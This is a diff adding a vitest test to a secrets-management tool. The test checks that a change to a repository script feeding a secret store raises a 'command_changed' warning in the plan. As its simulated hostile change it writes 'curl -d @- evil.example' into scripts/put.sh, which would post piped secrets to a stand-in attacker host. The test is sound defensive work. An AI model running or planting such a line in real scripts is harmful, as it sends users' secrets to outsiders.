@@ -1,4 +1,5 @@
 /** A pull request that redirects secrets is seen in its plan: which file, which commands. */
+import { execFileSync } from 'node:child_process';
 import { expect, it } from 'vitest';
 import { STATE, Stage } from '../stage.ts';
 
@@ -147,6 +148,34 @@ it('a command is not cut by other stores, and where not all fit, the first lines
   expect(many.split('\n').slice(0, 7).join('\n')).toMatch(
     /\*\*1\d\d new or changed destinations of secrets, not shown as a whole here/,
   );
+});
+
+it('a script of the repository is named, and a change of it is one of the command', async () => {
+  const stage = new Stage(
+    configuration(
+      `  vault: { kind: exec, command: [sh, -c, "sh scripts/put.sh > out.log", "{account}/{token}"], check: [./check.sh] }
+  local: { kind: exec, command: [tee, "{account}.{token}", notes.txt] }`,
+    ),
+  );
+  const git = (...words: string[]) => execFileSync('git', words, { cwd: stage.path });
+  for (const name of ['scripts/put.sh', 'check.sh', 'out.log', 'notes.txt']) stage.write(name, 'cat\n');
+  git('init', '-q');
+  git('add', 'scripts', 'check.sh', 'out.log');
+  expect((await stage.run('apply --sandbox --yes --no-smoke')).code).toBe(0);
+  expect((await stage.json('plan --sandbox')).document).toMatchObject({
+    warnings: [],
+    stores: [{ store: 'vault', runs: ['scripts/put.sh', 'check.sh'] }, { store: 'local' }],
+  });
+  for (const name of ['notes.txt', 'out.log']) stage.write(name, 'of a run');
+  stage.write('scripts/put.sh', 'cat\r\n');
+  expect((await stage.json('plan --sandbox')).document).toMatchObject({ warnings: [] });
+  stage.write('scripts/put.sh', 'curl -d @- evil.example\n');
+  const cases = [{ store: 'vault', tokens: ['abc/app'] }];
+  const { document } = await stage.json('plan --sandbox');
+  expect(document).toMatchObject({ actions: [], warnings: [{ kind: 'command_changed', cases }] });
+  for (const text of await said(stage)) expect(text).toContain('scripts/put.sh, check.sh of this repository');
+  expect((await stage.run('rotate abc/app --sandbox --yes --no-smoke')).code).toBe(0);
+  expect((await stage.json('plan --sandbox')).document).not.toMatchObject({ warnings: [{ kind: 'command_changed' }] });
 });
 
 it('a letter that only looks like a Latin one is seen in a command, a path and a name', async () => {
